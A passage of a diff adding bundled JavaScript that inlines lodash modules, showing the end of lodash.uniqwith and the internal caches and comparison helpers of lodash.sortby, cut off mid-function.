+	 * _.isFunction(/abc/);
+	 * // => false
+	 */
+	function isFunction(value) {
+	  // The use of `Object#toString` avoids issues with the `typeof` operator
+	  // in Safari 8-9 which returns 'object' for typed array and other constructors.
+	  var tag = isObject(value) ? objectToString.call(value) : '';
+	  return tag == funcTag || tag == genTag;
+	}
+
+	/**
+	 * Checks if `value` is the
+	 * [language type](http://www.ecma-international.org/ecma-262/7.0/#sec-ecmascript-language-types)
+	 * of `Object`. (e.g. arrays, functions, objects, regexes, `new Number(0)`, and `new String('')`)
+	 *
+	 * @static
+	 * @memberOf _
+	 * @since 0.1.0
+	 * @category Lang
+	 * @param {*} value The value to check.
+	 * @returns {boolean} Returns `true` if `value` is an object, else `false`.
+	 * @example
+	 *
+	 * _.isObject({});
+	 * // => true
+	 *
+	 * _.isObject([1, 2, 3]);
+	 * // => true
+	 *
+	 * _.isObject(_.noop);
+	 * // => true
+	 *
+	 * _.isObject(null);
+	 * // => false
+	 */
+	function isObject(value) {
+	  var type = typeof value;
+	  return !!value && (type == 'object' || type == 'function');
+	}
+
+	/**
+	 * This method returns `undefined`.
+	 *
+	 * @static
+	 * @memberOf _
+	 * @since 2.3.0
+	 * @category Util
+	 * @example
+	 *
+	 * _.times(2, _.noop);
+	 * // => [undefined, undefined]
+	 */
+	function noop() {
+	  // No operation performed.
+	}
+
+	lodash_uniqwith = uniqWith;
+	return lodash_uniqwith;
+}
+
+var lodash_sortby = {exports: {}};
+
+/**
+ * lodash (Custom Build) <https://lodash.com/>
+ * Build: `lodash modularize exports="npm" -o ./`
+ * Copyright jQuery Foundation and other contributors <https://jquery.org/>
+ * Released under MIT license <https://lodash.com/license>
+ * Based on Underscore.js 1.8.3 <http://underscorejs.org/LICENSE>
+ * Copyright Jeremy Ashkenas, DocumentCloud and Investigative Reporters & Editors
+ */
+lodash_sortby.exports;
+
+var hasRequiredLodash_sortby;
+
+function requireLodash_sortby () {
+	if (hasRequiredLodash_sortby) return lodash_sortby.exports;
+	hasRequiredLodash_sortby = 1;
+	(function (module, exports) {
+		/** Used as the size to enable large array optimizations. */
+		var LARGE_ARRAY_SIZE = 200;
+
+		/** Used as the `TypeError` message for "Functions" methods. */
+		var FUNC_ERROR_TEXT = 'Expected a function';
+
+		/** Used to stand-in for `undefined` hash values. */
+		var HASH_UNDEFINED = '__lodash_hash_undefined__';
+
+		/** Used to compose bitmasks for comparison styles. */
+		var UNORDERED_COMPARE_FLAG = 1,
+		    PARTIAL_COMPARE_FLAG = 2;
+
+		/** Used as references for various `Number` constants. */
+		var MAX_SAFE_INTEGER = 9007199254740991;
+
+		/** `Object#toString` result references. */
+		var argsTag = '[object Arguments]',
+		    arrayTag = '[object Array]',
+		    boolTag = '[object Boolean]',
+		    dateTag = '[object Date]',
+		    errorTag = '[object Error]',
+		    funcTag = '[object Function]',
+		    genTag = '[object GeneratorFunction]',
+		    mapTag = '[object Map]',
+		    numberTag = '[object Number]',
+		    objectTag = '[object Object]',
+		    promiseTag = '[object Promise]',
+		    regexpTag = '[object RegExp]',
+		    setTag = '[object Set]',
+		    stringTag = '[object String]',
+		    symbolTag = '[object Symbol]',
+		    weakMapTag = '[object WeakMap]';
+
+		var arrayBufferTag = '[object ArrayBuffer]',
+		    dataViewTag = '[object DataView]',
+		    float32Tag = '[object Float32Array]',
+		    float64Tag = '[object Float64Array]',
+		    int8Tag = '[object Int8Array]',
+		    int16Tag = '[object Int16Array]',
+		    int32Tag = '[object Int32Array]',
+		    uint8Tag = '[object Uint8Array]',
+		    uint8ClampedTag = '[object Uint8ClampedArray]',
+		    uint16Tag = '[object Uint16Array]',
+		    uint32Tag = '[object Uint32Array]';
+
+		/** Used to match property names within property paths. */
+		var reIsDeepProp = /\.|\[(?:[^[\]]*|(["'])(?:(?!\1)[^\\]|\\.)*?\1)\]/,
+		    reIsPlainProp = /^\w*$/,
+		    reLeadingDot = /^\./,
+		    rePropName = /[^.[\]]+|\[(?:(-?\d+(?:\.\d+)?)|(["'])((?:(?!\2)[^\\]|\\.)*?)\2)\]|(?=(?:\.|\[\])(?:\.|\[\]|$))/g;
+
+		/**
+		 * Used to match `RegExp`
+		 * [syntax characters](http://ecma-international.org/ecma-262/7.0/#sec-patterns).
+		 */
+		var reRegExpChar = /[\\^$.*+?()[\]{}|]/g;
+
+		/** Used to match backslashes in property paths. */
+		var reEscapeChar = /\\(\\)?/g;
+
+		/** Used to detect host constructors (Safari). */
+		var reIsHostCtor = /^\[object .+?Constructor\]$/;
+
+		/** Used to detect unsigned integer values. */
+		var reIsUint = /^(?:0|[1-9]\d*)$/;
+
+		/** Used to identify `toStringTag` values of typed arrays. */
+		var typedArrayTags = {};
+		typedArrayTags[float32Tag] = typedArrayTags[float64Tag] =
+		typedArrayTags[int8Tag] = typedArrayTags[int16Tag] =
+		typedArrayTags[int32Tag] = typedArrayTags[uint8Tag] =
+		typedArrayTags[uint8ClampedTag] = typedArrayTags[uint16Tag] =
+		typedArrayTags[uint32Tag] = true;
+		typedArrayTags[argsTag] = typedArrayTags[arrayTag] =
+		typedArrayTags[arrayBufferTag] = typedArrayTags[boolTag] =
+		typedArrayTags[dataViewTag] = typedArrayTags[dateTag] =
+		typedArrayTags[errorTag] = typedArrayTags[funcTag] =
+		typedArrayTags[mapTag] = typedArrayTags[numberTag] =
+		typedArrayTags[objectTag] = typedArrayTags[regexpTag] =
+		typedArrayTags[setTag] = typedArrayTags[stringTag] =
+		typedArrayTags[weakMapTag] = false;
+
+		/** Detect free variable `global` from Node.js. */
+		var freeGlobal = typeof commonjsGlobal == 'object' && commonjsGlobal && commonjsGlobal.Object === Object && commonjsGlobal;
+
+		/** Detect free variable `self`. */
+		var freeSelf = typeof self == 'object' && self && self.Object === Object && self;
+
+		/** Used as a reference to the global object. */
+		var root = freeGlobal || freeSelf || Function('return this')();
+
+		/** Detect free variable `exports`. */
+		var freeExports = exports && !exports.nodeType && exports;
+
+		/** Detect free variable `module`. */
+		var freeModule = freeExports && 'object' == 'object' && module && !module.nodeType && module;
+
+		/** Detect the popular CommonJS extension `module.exports`. */
+		var moduleExports = freeModule && freeModule.exports === freeExports;
+
+		/** Detect free variable `process` from Node.js. */
+		var freeProcess = moduleExports && freeGlobal.process;
+
+		/** Used to access faster Node.js helpers. */
+		var nodeUtil = (function() {
+		  try {
+		    return freeProcess && freeProcess.binding('util');
+		  } catch (e) {}
+		}());
+
+		/* Node.js helper references. */
+		var nodeIsTypedArray = nodeUtil && nodeUtil.isTypedArray;
+
+		/**
+		 * A faster alternative to `Function#apply`, this function invokes `func`
+		 * with the `this` binding of `thisArg` and the arguments of `args`.
+		 *
+		 * @private
+		 * @param {Function} func The function to invoke.
+		 * @param {*} thisArg The `this` binding of `func`.
+		 * @param {Array} args The arguments to invoke `func` with.
+		 * @returns {*} Returns the result of `func`.
+		 */
+		function apply(func, thisArg, args) {
+		  switch (args.length) {
+		    case 0: return func.call(thisArg);
+		    case 1: return func.call(thisArg, args[0]);
+		    case 2: return func.call(thisArg, args[0], args[1]);
+		    case 3: return func.call(thisArg, args[0], args[1], args[2]);
+		  }
+		  return func.apply(thisArg, args);
+		}
+
+		/**
+		 * A specialized version of `_.map` for arrays without support for iteratee
+		 * shorthands.
+		 *
+		 * @private
+		 * @param {Array} [array] The array to iterate over.
+		 * @param {Function} iteratee The function invoked per iteration.
+		 * @returns {Array} Returns the new mapped array.
+		 */
+		function arrayMap(array, iteratee) {
+		  var index = -1,
+		      length = array ? array.length : 0,
+		      result = Array(length);
+
+		  while (++index < length) {
+		    result[index] = iteratee(array[index], index, array);
+		  }
+		  return result;
+		}
+
+		/**
+		 * Appends the elements of `values` to `array`.
+		 *
+		 * @private
+		 * @param {Array} array The array to modify.
+		 * @param {Array} values The values to append.
+		 * @returns {Array} Returns `array`.
+		 */
+		function arrayPush(array, values) {
+		  var index = -1,
+		      length = values.length,
+		      offset = array.length;
+
+		  while (++index < length) {
+		    array[offset + index] = values[index];
+		  }
+		  return array;
+		}
+
+		/**
+		 * A specialized version of `_.some` for arrays without support for iteratee
+		 * shorthands.
+		 *
+		 * @private
+		 * @param {Array} [array] The array to iterate over.
+		 * @param {Function} predicate The function invoked per iteration.
+		 * @returns {boolean} Returns `true` if any element passes the predicate check,
+		 *  else `false`.
+		 */
+		function arraySome(array, predicate) {
+		  var index = -1,
+		      length = array ? array.length : 0;
+
+		  while (++index < length) {
+		    if (predicate(array[index], index, array)) {
+		      return true;
+		    }
+		  }
+		  return false;
+		}
+
+		/**
+		 * The base implementation of `_.property` without support for deep paths.
+		 *
+		 * @private
+		 * @param {string} key The key of the property to get.
+		 * @returns {Function} Returns the new accessor function.
+		 */
+		function baseProperty(key) {
+		  return function(object) {
+		    return object == null ? undefined : object[key];
+		  };
+		}
+
+		/**
+		 * The base implementation of `_.sortBy` which uses `comparer` to define the
+		 * sort order of `array` and replaces criteria objects with their corresponding
+		 * values.
+		 *
+		 * @private
+		 * @param {Array} array The array to sort.
+		 * @param {Function} comparer The function to define sort order.
+		 * @returns {Array} Returns `array`.
+		 */
+		function baseSortBy(array, comparer) {
+		  var length = array.length;
+
+		  array.sort(comparer);
+		  while (length--) {
+		    array[length] = array[length].value;
+		  }
+		  return array;
+		}
+
+		/**
+		 * The base implementation of `_.times` without support for iteratee shorthands
+		 * or max array length checks.
+		 *
+		 * @private
+		 * @param {number} n The number of times to invoke `iteratee`.
+		 * @param {Function} iteratee The function invoked per iteration.
+		 * @returns {Array} Returns the array of results.
+		 */
+		function baseTimes(n, iteratee) {
+		  var index = -1,
+		      result = Array(n);
+
+		  while (++index < n) {
+		    result[index] = iteratee(index);
+		  }
+		  return result;
+		}
+
+		/**
+		 * The base implementation of `_.unary` without support for storing metadata.
+		 *
+		 * @private
+		 * @param {Function} func The function to cap arguments for.
+		 * @returns {Function} Returns the new capped function.
+		 */
+		function baseUnary(func) {
+		  return function(value) {
+		    return func(value);
+		  };
+		}
+
+		/**
+		 * Gets the value at `key` of `object`.
+		 *
+		 * @private
+		 * @param {Object} [object] The object to query.
+		 * @param {string} key The key of the property to get.
+		 * @returns {*} Returns the property value.
+		 */
+		function getValue(object, key) {
+		  return object == null ? undefined : object[key];
+		}
+
+		/**
+		 * Checks if `value` is a host object in IE < 9.
+		 *
+		 * @private
+		 * @param {*} value The value to check.
+		 * @returns {boolean} Returns `true` if `value` is a host object, else `false`.
+		 */
+		function isHostObject(value) {
+		  // Many host objects are `Object` objects that can coerce to strings
+		  // despite having improperly defined `toString` methods.
+		  var result = false;
+		  if (value != null && typeof value.toString != 'function') {
+		    try {
+		      result = !!(value + '');
+		    } catch (e) {}
+		  }
+		  return result;
+		}
+
+		/**
+		 * Converts `map` to its key-value pairs.
+		 *
+		 * @private
+		 * @param {Object} map The map to convert.
+		 * @returns {Array} Returns the key-value pairs.
+		 */
+		function mapToArray(map) {
+		  var index = -1,
+		      result = Array(map.size);
+
+		  map.forEach(function(value, key) {
+		    result[++index] = [key, value];
+		  });
+		  return result;
+		}
+
+		/**
+		 * Creates a unary function that invokes `func` with its argument transformed.
+		 *
+		 * @private
+		 * @param {Function} func The function to wrap.
+		 * @param {Function} transform The argument transform.
+		 * @returns {Function} Returns the new function.
+		 */
+		function overArg(func, transform) {
+		  return function(arg) {
+		    return func(transform(arg));
+		  };
+		}
+
+		/**
+		 * Converts `set` to an array of its values.
+		 *
+		 * @private
+		 * @param {Object} set The set to convert.
+		 * @returns {Array} Returns the values.
+		 */
+		function setToArray(set) {
+		  var index = -1,
+		      result = Array(set.size);
+
+		  set.forEach(function(value) {
+		    result[++index] = value;
+		  });
+		  return result;
+		}
+
+		/** Used for built-in method references. */
+		var arrayProto = Array.prototype,
+		    funcProto = Function.prototype,
+		    objectProto = Object.prototype;
+
+		/** Used to detect overreaching core-js shims. */
+		var coreJsData = root['__core-js_shared__'];
+
+		/** Used to detect methods masquerading as native. */
+		var maskSrcKey = (function() {
+		  var uid = /[^.]+$/.exec(coreJsData && coreJsData.keys && coreJsData.keys.IE_PROTO || '');
+		  return uid ? ('Symbol(src)_1.' + uid) : '';
+		}());
+
+		/** Used to resolve the decompiled source of functions. */
+		var funcToString = funcProto.toString;
+
+		/** Used to check objects for own properties. */
+		var hasOwnProperty = objectProto.hasOwnProperty;
+
+		/**
+		 * Used to resolve the
+		 * [`toStringTag`](http://ecma-international.org/ecma-262/7.0/#sec-object.prototype.tostring)
+		 * of values.
+		 */
+		var objectToString = objectProto.toString;
+
+		/** Used to detect if a method is native. */
+		var reIsNative = RegExp('^' +
+		  funcToString.call(hasOwnProperty).replace(reRegExpChar, '\\$&')
+		  .replace(/hasOwnProperty|(function).*?(?=\\\()| for .+?(?=\\\])/g, '$1.*?') + '$'
+		);
+
+		/** Built-in value references. */
+		var Symbol = root.Symbol,
+		    Uint8Array = root.Uint8Array,
+		    propertyIsEnumerable = objectProto.propertyIsEnumerable,
+		    splice = arrayProto.splice,
+		    spreadableSymbol = Symbol ? Symbol.isConcatSpreadable : undefined;
+
+		/* Built-in method references for those with the same name as other `lodash` methods. */
+		var nativeKeys = overArg(Object.keys, Object),
+		    nativeMax = Math.max;
+
+		/* Built-in method references that are verified to be native. */
+		var DataView = getNative(root, 'DataView'),
+		    Map = getNative(root, 'Map'),
+		    Promise = getNative(root, 'Promise'),
+		    Set = getNative(root, 'Set'),
+		    WeakMap = getNative(root, 'WeakMap'),
+		    nativeCreate = getNative(Object, 'create');
+
+		/** Used to detect maps, sets, and weakmaps. */
+		var dataViewCtorString = toSource(DataView),
+		    mapCtorString = toSource(Map),
+		    promiseCtorString = toSource(Promise),
+		    setCtorString = toSource(Set),
+		    weakMapCtorString = toSource(WeakMap);
+
+		/** Used to convert symbols to primitives and strings. */
+		var symbolProto = Symbol ? Symbol.prototype : undefined,
+		    symbolValueOf = symbolProto ? symbolProto.valueOf : undefined,
+		    symbolToString = symbolProto ? symbolProto.toString : undefined;
+
+		/**
+		 * Creates a hash object.
+		 *
+		 * @private
+		 * @constructor
+		 * @param {Array} [entries] The key-value pairs to cache.
+		 */
+		function Hash(entries) {
+		  var index = -1,
+		      length = entries ? entries.length : 0;
+
+		  this.clear();
+		  while (++index < length) {
+		    var entry = entries[index];
+		    this.set(entry[0], entry[1]);
+		  }
+		}
+
+		/**
+		 * Removes all key-value entries from the hash.
+		 *
+		 * @private
+		 * @name clear
+		 * @memberOf Hash
+		 */
+		function hashClear() {
+		  this.__data__ = nativeCreate ? nativeCreate(null) : {};
+		}
+
+		/**
+		 * Removes `key` and its value from the hash.
+		 *
+		 * @private
+		 * @name delete
+		 * @memberOf Hash
+		 * @param {Object} hash The hash to modify.
+		 * @param {string} key The key of the value to remove.
+		 * @returns {boolean} Returns `true` if the entry was removed, else `false`.
+		 */
+		function hashDelete(key) {
+		  return this.has(key) && delete this.__data__[key];
+		}
+
+		/**
+		 * Gets the hash value for `key`.
+		 *
+		 * @private
+		 * @name get
+		 * @memberOf Hash
+		 * @param {string} key The key of the value to get.
+		 * @returns {*} Returns the entry value.
+		 */
+		function hashGet(key) {
+		  var data = this.__data__;
+		  if (nativeCreate) {
+		    var result = data[key];
+		    return result === HASH_UNDEFINED ? undefined : result;
+		  }
+		  return hasOwnProperty.call(data, key) ? data[key] : undefined;
+		}
+
+		/**
+		 * Checks if a hash value for `key` exists.
+		 *
+		 * @private
+		 * @name has
+		 * @memberOf Hash
+		 * @param {string} key The key of the entry to check.
+		 * @returns {boolean} Returns `true` if an entry for `key` exists, else `false`.
+		 */
+		function hashHas(key) {
+		  var data = this.__data__;
+		  return nativeCreate ? data[key] !== undefined : hasOwnProperty.call(data, key);
+		}
+
+		/**
+		 * Sets the hash `key` to `value`.
+		 *
+		 * @private
+		 * @name set
+		 * @memberOf Hash
+		 * @param {string} key The key of the value to set.
+		 * @param {*} value The value to set.
+		 * @returns {Object} Returns the hash instance.
+		 */
+		function hashSet(key, value) {
+		  var data = this.__data__;
+		  data[key] = (nativeCreate && value === undefined) ? HASH_UNDEFINED : value;
+		  return this;
+		}
+
+		// Add methods to `Hash`.
+		Hash.prototype.clear = hashClear;
+		Hash.prototype['delete'] = hashDelete;
+		Hash.prototype.get = hashGet;
+		Hash.prototype.has = hashHas;
+		Hash.prototype.set = hashSet;
+
+		/**
+		 * Creates an list cache object.
+		 *
+		 * @private
+		 * @constructor
+		 * @param {Array} [entries] The key-value pairs to cache.
+		 */
+		function ListCache(entries) {
+		  var index = -1,
+		      length = entries ? entries.length : 0;
+
+		  this.clear();
+		  while (++index < length) {
+		    var entry = entries[index];
+		    this.set(entry[0], entry[1]);
+		  }
+		}
+
+		/**
+		 * Removes all key-value entries from the list cache.
+		 *
+		 * @private
+		 * @name clear
+		 * @memberOf ListCache
+		 */
+		function listCacheClear() {
+		  this.__data__ = [];
+		}
+
+		/**
+		 * Removes `key` and its value from the list cache.
+		 *
+		 * @private
+		 * @name delete
+		 * @memberOf ListCache
+		 * @param {string} key The key of the value to remove.
+		 * @returns {boolean} Returns `true` if the entry was removed, else `false`.
+		 */
+		function listCacheDelete(key) {
+		  var data = this.__data__,
+		      index = assocIndexOf(data, key);
+
+		  if (index < 0) {
+		    return false;
+		  }
+		  var lastIndex = data.length - 1;
+		  if (index == lastIndex) {
+		    data.pop();
+		  } else {
+		    splice.call(data, index, 1);
+		  }
+		  return true;
+		}
+
+		/**
+		 * Gets the list cache value for `key`.
+		 *
+		 * @private
+		 * @name get
+		 * @memberOf ListCache
+		 * @param {string} key The key of the value to get.
+		 * @returns {*} Returns the entry value.
+		 */
+		function listCacheGet(key) {
+		  var data = this.__data__,
+		      index = assocIndexOf(data, key);
+
+		  return index < 0 ? undefined : data[index][1];
+		}
+
+		/**
+		 * Checks if a list cache value for `key` exists.
+		 *
+		 * @private
+		 * @name has
+		 * @memberOf ListCache
+		 * @param {string} key The key of the entry to check.
+		 * @returns {boolean} Returns `true` if an entry for `key` exists, else `false`.
+		 */
+		function listCacheHas(key) {
+		  return assocIndexOf(this.__data__, key) > -1;
+		}
+
+		/**
+		 * Sets the list cache `key` to `value`.
+		 *
+		 * @private
+		 * @name set
+		 * @memberOf ListCache
+		 * @param {string} key The key of the value to set.
+		 * @param {*} value The value to set.
+		 * @returns {Object} Returns the list cache instance.
+		 */
+		function listCacheSet(key, value) {
+		  var data = this.__data__,
+		      index = assocIndexOf(data, key);
+
+		  if (index < 0) {
+		    data.push([key, value]);
+		  } else {
+		    data[index][1] = value;
+		  }
+		  return this;
+		}
+
+		// Add methods to `ListCache`.
+		ListCache.prototype.clear = listCacheClear;
+		ListCache.prototype['delete'] = listCacheDelete;
+		ListCache.prototype.get = listCacheGet;
+		ListCache.prototype.has = listCacheHas;
+		ListCache.prototype.set = listCacheSet;
+
+		/**
+		 * Creates a map cache object to store key-value pairs.
+		 *
+		 * @private
+		 * @constructor
+		 * @param {Array} [entries] The key-value pairs to cache.
+		 */
+		function MapCache(entries) {
+		  var index = -1,
+		      length = entries ? entries.length : 0;
+
+		  this.clear();
+		  while (++index < length) {
+		    var entry = entries[index];
+		    this.set(entry[0], entry[1]);
+		  }
+		}
+
+		/**
+		 * Removes all key-value entries from the map.
+		 *
+		 * @private
+		 * @name clear
+		 * @memberOf MapCache
+		 */
+		function mapCacheClear() {
+		  this.__data__ = {
+		    'hash': new Hash,
+		    'map': new (Map || ListCache),
+		    'string': new Hash
+		  };
+		}
+
+		/**
+		 * Removes `key` and its value from the map.
+		 *
+		 * @private
+		 * @name delete
+		 * @memberOf MapCache
+		 * @param {string} key The key of the value to remove.
+		 * @returns {boolean} Returns `true` if the entry was removed, else `false`.
+		 */
+		function mapCacheDelete(key) {
+		  return getMapData(this, key)['delete'](key);
+		}
+
+		/**
+		 * Gets the map value for `key`.
+		 *
+		 * @private
+		 * @name get
+		 * @memberOf MapCache
+		 * @param {string} key The key of the value to get.
+		 * @returns {*} Returns the entry value.
+		 */
+		function mapCacheGet(key) {
+		  return getMapData(this, key).get(key);
+		}
+
+		/**
+		 * Checks if a map value for `key` exists.
+		 *
+		 * @private
+		 * @name has
+		 * @memberOf MapCache
+		 * @param {string} key The key of the entry to check.
+		 * @returns {boolean} Returns `true` if an entry for `key` exists, else `false`.
+		 */
+		function mapCacheHas(key) {
+		  return getMapData(this, key).has(key);
+		}
+
+		/**
+		 * Sets the map `key` to `value`.
+		 *
+		 * @private
+		 * @name set
+		 * @memberOf MapCache
+		 * @param {string} key The key of the value to set.
+		 * @param {*} value The value to set.
+		 * @returns {Object} Returns the map cache instance.
+		 */
+		function mapCacheSet(key, value) {
+		  getMapData(this, key).set(key, value);
+		  return this;
+		}
+
+		// Add methods to `MapCache`.
+		MapCache.prototype.clear = mapCacheClear;
+		MapCache.prototype['delete'] = mapCacheDelete;
+		MapCache.prototype.get = mapCacheGet;
+		MapCache.prototype.has = mapCacheHas;
+		MapCache.prototype.set = mapCacheSet;
+
+		/**
+		 *
+		 * Creates an array cache object to store unique values.
+		 *
+		 * @private
+		 * @constructor
+		 * @param {Array} [values] The values to cache.
+		 */
+		function SetCache(values) {
+		  var index = -1,
+		      length = values ? values.length : 0;
+
+		  this.__data__ = new MapCache;
+		  while (++index < length) {
+		    this.add(values[index]);
+		  }
+		}
+
+		/**
+		 * Adds `value` to the array cache.
+		 *
+		 * @private
+		 * @name add
+		 * @memberOf SetCache
+		 * @alias push
+		 * @param {*} value The value to cache.
+		 * @returns {Object} Returns the cache instance.
+		 */
+		function setCacheAdd(value) {
+		  this.__data__.set(value, HASH_UNDEFINED);
+		  return this;
+		}
+
+		/**
+		 * Checks if `value` is in the array cache.
+		 *
+		 * @private
+		 * @name has
+		 * @memberOf SetCache
+		 * @param {*} value The value to search for.
+		 * @returns {number} Returns `true` if `value` is found, else `false`.
+		 */
+		function setCacheHas(value) {
+		  return this.__data__.has(value);
+		}
+
+		// Add methods to `SetCache`.
+		SetCache.prototype.add = SetCache.prototype.push = setCacheAdd;
+		SetCache.prototype.has = setCacheHas;
+
+		/**
+		 * Creates a stack cache object to store key-value pairs.
+		 *
+		 * @private
+		 * @constructor
+		 * @param {Array} [entries] The key-value pairs to cache.
+		 */
+		function Stack(entries) {
+		  this.__data__ = new ListCache(entries);
+		}
+
+		/**
+		 * Removes all key-value entries from the stack.
+		 *
+		 * @private
+		 * @name clear
+		 * @memberOf Stack
+		 */
+		function stackClear() {
+		  this.__data__ = new ListCache;
+		}
+
+		/**
+		 * Removes `key` and its value from the stack.
+		 *
+		 * @private
+		 * @name delete
+		 * @memberOf Stack
+		 * @param {string} key The key of the value to remove.
+		 * @returns {boolean} Returns `true` if the entry was removed, else `false`.
+		 */
+		function stackDelete(key) {
+		  return this.__data__['delete'](key);
+		}
+
+		/**
+		 * Gets the stack value for `key`.
+		 *
+		 * @private
+		 * @name get
+		 * @memberOf Stack
+		 * @param {string} key The key of the value to get.
+		 * @returns {*} Returns the entry value.
+		 */
+		function stackGet(key) {
+		  return this.__data__.get(key);
+		}
+
+		/**
+		 * Checks if a stack value for `key` exists.
+		 *
+		 * @private
+		 * @name has
+		 * @memberOf Stack
+		 * @param {string} key The key of the entry to check.
+		 * @returns {boolean} Returns `true` if an entry for `key` exists, else `false`.
+		 */
+		function stackHas(key) {
+		  return this.__data__.has(key);
+		}
+
+		/**
+		 * Sets the stack `key` to `value`.
+		 *
+		 * @private
+		 * @name set
+		 * @memberOf Stack
+		 * @param {string} key The key of the value to set.
+		 * @param {*} value The value to set.
+		 * @returns {Object} Returns the stack cache instance.
+		 */
+		function stackSet(key, value) {
+		  var cache = this.__data__;
+		  if (cache instanceof ListCache) {
+		    var pairs = cache.__data__;
+		    if (!Map || (pairs.length < LARGE_ARRAY_SIZE - 1)) {
+		      pairs.push([key, value]);
+		      return this;
+		    }
+		    cache = this.__data__ = new MapCache(pairs);
+		  }
+		  cache.set(key, value);
+		  return this;
+		}
+
+		// Add methods to `Stack`.
+		Stack.prototype.clear = stackClear;
+		Stack.prototype['delete'] = stackDelete;
+		Stack.prototype.get = stackGet;
+		Stack.prototype.has = stackHas;
+		Stack.prototype.set = stackSet;
+
+		/**
+		 * Creates an array of the enumerable property names of the array-like `value`.
+		 *
+		 * @private
+		 * @param {*} value The value to query.
+		 * @param {boolean} inherited Specify returning inherited property names.
+		 * @returns {Array} Returns the array of property names.
+		 */
+		function arrayLikeKeys(value, inherited) {
+		  // Safari 8.1 makes `arguments.callee` enumerable in strict mode.
+		  // Safari 9 makes `arguments.length` enumerable in strict mode.
+		  var result = (isArray(value) || isArguments(value))
+		    ? baseTimes(value.length, String)
+		    : [];
+
+		  var length = result.length,
+		      skipIndexes = !!length;
+
+		  for (var key in value) {
+		    if ((hasOwnProperty.call(value, key)) &&
+		        !(skipIndexes && (key == 'length' || isIndex(key, length)))) {
+		      result.push(key);
+		    }
+		  }
+		  return result;
+		}
+
+		/**
+		 * Gets the index at which the `key` is found in `array` of key-value pairs.
+		 *
+		 * @private
+		 * @param {Array} array The array to inspect.
+		 * @param {*} key The key to search for.
+		 * @returns {number} Returns the index of the matched value, else `-1`.
+		 */
+		function assocIndexOf(array, key) {
+		  var length = array.length;
+		  while (length--) {
+		    if (eq(array[length][0], key)) {
+		      return length;
+		    }
+		  }
+		  return -1;
+		}
+
+		/**
+		 * The base implementation of `_.forEach` without support for iteratee shorthands.
+		 *
+		 * @private
+		 * @param {Array|Object} collection The collection to iterate over.
+		 * @param {Function} iteratee The function invoked per iteration.
+		 * @returns {Array|Object} Returns `collection`.
+		 */
+		var baseEach = createBaseEach(baseForOwn);
+
+		/**
+		 * The base implementation of `_.flatten` with support for restricting flattening.
+		 *
+		 * @private
+		 * @param {Array} array The array to flatten.
+		 * @param {number} depth The maximum recursion depth.
+		 * @param {boolean} [predicate=isFlattenable] The function invoked per iteration.
+		 * @param {boolean} [isStrict] Restrict to values that pass `predicate` checks.
+		 * @param {Array} [result=[]] The initial result value.
+		 * @returns {Array} Returns the new flattened array.
+		 */
+		function baseFlatten(array, depth, predicate, isStrict, result) {
+		  var index = -1,
+		      length = array.length;
+
+		  predicate || (predicate = isFlattenable);
+		  result || (result = []);
+
+		  while (++index < length) {
+		    var value = array[index];
+		    if (predicate(value)) {
+		      {
+		        arrayPush(result, value);
+		      }
+		    } else {
+		      result[result.length] = value;
+		    }
+		  }
+		  return result;
+		}
+
+		/**
+		 * The base implementation of `baseForOwn` which iterates over `object`
+		 * properties returned by `keysFunc` and invokes `iteratee` for each property.
+		 * Iteratee functions may exit iteration early by explicitly returning `false`.
+		 *
+		 * @private
+		 * @param {Object} object The object to iterate over.
+		 * @param {Function} iteratee The function invoked per iteration.
+		 * @param {Function} keysFunc The function to get the keys of `object`.
+		 * @returns {Object} Returns `object`.
+		 */
+		var baseFor = createBaseFor();
+
+		/**
+		 * The base implementation of `_.forOwn` without support for iteratee shorthands.
+		 *
+		 * @private
+		 * @param {Object} object The object to iterate over.
+		 * @param {Function} iteratee The function invoked per iteration.
+		 * @returns {Object} Returns `object`.
+		 */
+		function baseForOwn(object, iteratee) {
+		  return object && baseFor(object, iteratee, keys);
+		}
+
+		/**
+		 * The base implementation of `_.get` without support for default values.
+		 *
+		 * @private
+		 * @param {Object} object The object to query.
+		 * @param {Array|string} path The path of the property to get.
+		 * @returns {*} Returns the resolved value.
+		 */
+		function baseGet(object, path) {
+		  path = isKey(path, object) ? [path] : castPath(path);
+
+		  var index = 0,
+		      length = path.length;
+
+		  while (object != null && index < length) {
+		    object = object[toKey(path[index++])];
+		  }
+		  return (index && index == length) ? object : undefined;
+		}
+
+		/**
+		 * The base implementation of `getTag`.
+		 *
+		 * @private
+		 * @param {*} value The value to query.
+		 * @returns {string} Returns the `toStringTag`.
+		 */
+		function baseGetTag(value) {
+		  return objectToString.call(value);
+		}
+
+		/**
+		 * The base implementation of `_.hasIn` without support for deep paths.
+		 *
+		 * @private
+		 * @param {Object} [object] The object to query.
+		 * @param {Array|string} key The key to check.
+		 * @returns {boolean} Returns `true` if `key` exists, else `false`.
+		 */
+		function baseHasIn(object, key) {
+		  return object != null && key in Object(object);
+		}
+
+		/**
+		 * The base implementation of `_.isEqual` which supports partial comparisons
+		 * and tracks traversed objects.
+		 *
+		 * @private
+		 * @param {*} value The value to compare.
+		 * @param {*} other The other value to compare.
+		 * @param {Function} [customizer] The function to customize comparisons.
+		 * @param {boolean} [bitmask] The bitmask of comparison flags.
+		 *  The bitmask may be composed of the following flags:
+		 *     1 - Unordered comparison
+		 *     2 - Partial comparison
+		 * @param {Object} [stack] Tracks traversed `value` and `other` objects.
+		 * @returns {boolean} Returns `true` if the values are equivalent, else `false`.
+		 */
+		function baseIsEqual(value, other, customizer, bitmask, stack) {
+		  if (value === other) {
+		    return true;
+		  }
+		  if (value == null || other == null || (!isObject(value) && !isObjectLike(other))) {
+		    return value !== value && other !== other;
+		  }
+		  return baseIsEqualDeep(value, other, baseIsEqual, customizer, bitmask, stack);
+		}
+
+		/**
+		 * A specialized version of `baseIsEqual` for arrays and objects which performs
+		 * deep comparisons and tracks traversed objects enabling objects with circular
+		 * references to be compared.
+		 *
+		 * @private
+		 * @param {Object} object The object to compare.
+		 * @param {Object} other The other object to compare.
+		 * @param {Function} equalFunc The function to determine equivalents of values.
+		 * @param {Function} [customizer] The function to customize comparisons.
+		 * @param {number} [bitmask] The bitmask of comparison flags. See `baseIsEqual`
+		 *  for more details.
+		 * @param {Object} [stack] Tracks traversed `object` and `other` objects.
+		 * @returns {boolean} Returns `true` if the objects are equivalent, else `false`.
+		 */
+		function baseIsEqualDeep(object, other, equalFunc, customizer, bitmask, stack) {
+		  var objIsArr = isArray(object),
+		      othIsArr = isArray(other),
+		      objTag = arrayTag,
+		      othTag = arrayTag;
+
+		  if (!objIsArr) {
+		    objTag = getTag(object);
+		    objTag = objTag == argsTag ? objectTag : objTag;
